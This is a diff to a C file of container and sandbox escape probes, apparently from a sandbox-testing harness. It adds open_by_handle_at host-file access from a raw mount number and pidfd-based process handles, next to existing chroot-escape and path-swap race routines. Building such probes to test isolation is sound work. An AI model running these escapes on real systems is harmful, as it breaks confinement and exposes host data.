@@ -7,6 +7,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/stat.h>
+#include <sys/syscall.h>
 #include <sys/xattr.h>
 #include <unistd.h>
 
@@ -104,23 +105,53 @@ static int leave_chroot(char **arguments) {
   return outcome("open", open(path, O_RDONLY));
 }
 
-// FILE HANDLE: opens a file of the host by its handle (type:hex), through any mount of the same file system.
-static int open_by_handle(char **arguments) {
-  int mount = open(arguments[0], O_RDONLY | O_DIRECTORY);
-  if (mount < 0) return broken("open");
-  struct {
-    struct file_handle head;
-    unsigned char bytes[MAX_HANDLE_SZ];
-  } handle = {0};
-  const char *hex = strchr(arguments[1], ':');
-  if (hex == NULL) return BROKEN;
-  handle.head.handle_type = atoi(arguments[1]);
+struct handle {
+  struct file_handle head;
+  unsigned char bytes[MAX_HANDLE_SZ];
+};
+
+// Reads TYPE:HEX.
+static int parse_handle(const char *text, struct handle *handle) {
+  const char *hex = strchr(text, ':');
+  if (hex == NULL) return -1;
+  handle->head.handle_type = atoi(text);
+  handle->head.handle_bytes = 0;
   for (hex++; hex[0] != '\0' && hex[1] != '\0'; hex += 2) {
     unsigned byte;
-    if (sscanf(hex, "%2x", &byte) != 1) return BROKEN;
-    handle.head.f_handle[handle.head.handle_bytes++] = (unsigned char)byte;
+    if (sscanf(hex, "%2x", &byte) != 1) return -1;
+    handle->head.f_handle[handle->head.handle_bytes++] = (unsigned char)byte;
   }
+  return 0;
+}
+
+// MOUNT HANDLE: opens what has the handle outside: a file, through any mount of its file system, or what lies in a file
+// system of the kernel's own, whose number stands for the mount.
+static int open_by_handle(char **arguments) {
+  struct handle handle;
+  if (parse_handle(arguments[1], &handle) != 0) return BROKEN;
+  int mount = *arguments[0] == '-' ? atoi(arguments[0]) : open(arguments[0], O_RDONLY | O_DIRECTORY);
+  if (mount == -1) return broken("open");
   return outcome("open_by_handle_at", open_by_handle_at(mount, &handle.head, O_RDONLY));
+}
+
+static int print_handle(int directory, const char *path, int flags) {
+  struct handle handle = {.head.handle_bytes = MAX_HANDLE_SZ};
+  int mount;
+  if (name_to_handle_at(directory, path, &handle.head, &mount, flags) != 0) return broken("name_to_handle_at");
+  printf("%d:", handle.head.handle_type);
+  for (unsigned i = 0; i < handle.head.handle_bytes; i++) printf("%02x", handle.head.f_handle[i]);
+  putchar('\n');
+  return SUCCEEDED;
+}
+
+// FILE: prints its handle. No attack, but what the attack above is given.
+static int handle_of(char **arguments) { return print_handle(AT_FDCWD, arguments[0], AT_SYMLINK_FOLLOW); }
+
+// PID: the handle of a process.
+static int handle_of_process(char **arguments) {
+  int process = (int)syscall(SYS_pidfd_open, atoi(arguments[0]), 0);
+  if (process < 0) return broken("pidfd_open");
+  return print_handle(process, "", AT_EMPTY_PATH);
 }
 
 // ONE OTHER: no attack by itself. Exchanges two paths as fast as it can until its input ends.
@@ -133,20 +164,6 @@ static int swap(char **arguments) {
     if (isFirst) fflush(stdout);
     isFirst = 0;
   } while (poll(&input, 1, 0) == 0);
-  return SUCCEEDED;
-}
-
-// FILE: prints its handle; no attack, but what the attack above is given.
-static int handle_of(char **arguments) {
-  struct {
-    struct file_handle head;
-    unsigned char bytes[MAX_HANDLE_SZ];
-  } handle = {.head.handle_bytes = MAX_HANDLE_SZ};
-  int mount;
-  if (name_to_handle_at(AT_FDCWD, arguments[0], &handle.head, &mount, 0) != 0) return broken("name_to_handle_at");
-  printf("%d:", handle.head.handle_type);
-  for (unsigned i = 0; i < handle.head.handle_bytes; i++) printf("%02x", handle.head.f_handle[i]);
-  putchar('\n');
   return SUCCEEDED;
 }
 
@@ -163,5 +180,6 @@ const struct attack file_attacks[] = {
     {"open-by-handle", open_by_handle},
     {"swap", swap},
     {"handle-of", handle_of},
+    {"handle-of-process", handle_of_process},
     END_OF_ATTACKS,
 };
